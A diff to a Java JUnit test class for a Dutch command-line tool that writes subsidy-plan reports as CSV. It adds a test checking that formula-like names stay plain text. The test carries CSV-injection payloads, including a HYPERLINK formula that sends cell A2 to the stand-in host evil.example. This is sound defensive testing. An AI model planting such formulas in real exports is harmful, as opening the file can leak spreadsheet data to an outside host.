@@ -162,7 +162,7 @@ class CliTest {
         Files.writeString(blocker, "geen map");
         Outcome o = exec("run", file.toString(), "--out", blocker.resolve("rapport").toString(), "--no-charts");
         assertEquals(2, o.code(), "the user can fix it: exit 2");
-        assertTrue(o.err().startsWith("Fout bij lezen of schrijven") && o.err().contains("--out"), o.err());
+        assertTrue(o.err().contains("is een bestand, geen map") && o.err().contains("--out"), o.err());
         assertFalse(o.err().contains("Interne fout") || o.err().contains("\tat "), o.err());
     }
 
@@ -263,6 +263,40 @@ class CliTest {
             }
         }
         assertTrue(o.out().contains("[fail] regeling.subsidieaandeel") && o.out().contains("Conclusion: the plan does NOT comply"), o.out());
+    }
+
+    @Test
+    void namesThatLookLikeFormulasStayTextInEveryCsv(@TempDir Path dir) throws IOException {
+        String plan = Files.readString(Path.of("scenarios/plan-rif.yaml"))
+                .replace("name: ROC Maritiem", "name: '=HYPERLINK(\"http://evil.example/?x=\"&A2,\"klik\")'")
+                .replace("name: programmabureau", "name: '+1+1'")
+                .replace("name: Provincie en gemeente", "name: '@SUM(A1)'");
+        Path file = Files.writeString(dir.resolve("aanval.yaml"), plan);
+        for (String format : List.of("rfc4180", "excel-nl")) {
+            Path out = dir.resolve("toets-" + format);
+            Outcome o = exec("check", file.toString(), "--out", out.toString(), "--iterations", "1000", "--tornado-iterations", "200",
+                    "--csv", format, "--no-charts");
+            assertEquals(3, o.code(), o.err());
+            char separator = format.equals("rfc4180") ? ',' : ';';
+            int seen = 0;
+            try (var files = Files.list(out)) {
+                for (Path csvFile : files.filter(p -> p.toString().endsWith(".csv")).toList()) {
+                    try (com.opencsv.CSVReader csv = new com.opencsv.CSVReaderBuilder(Files.newBufferedReader(csvFile))
+                            .withCSVParser(new com.opencsv.CSVParserBuilder().withSeparator(separator).build()).build()) {
+                        for (String[] row : csv.readAll()) {
+                            for (String cell : row) {
+                                seen += cell.contains("HYPERLINK") || cell.contains("+1+1") || cell.contains("@SUM") ? 1 : 0;
+                                assertFalse(!cell.isEmpty() && "=+@\t\r".indexOf(cell.charAt(0)) >= 0, csvFile.getFileName() + ": " + cell);
+                                assertFalse(cell.startsWith("-") && !cell.matches("-[0-9]+([.,][0-9]+)?"), csvFile.getFileName() + ": " + cell);
+                            }
+                        }
+                    } catch (com.opencsv.exceptions.CsvException e) {
+                        throw new AssertionError(e);
+                    }
+                }
+            }
+            assertTrue(seen >= 3, "the names are in the CSVs, as text: " + seen);
+        }
     }
 
     @Test
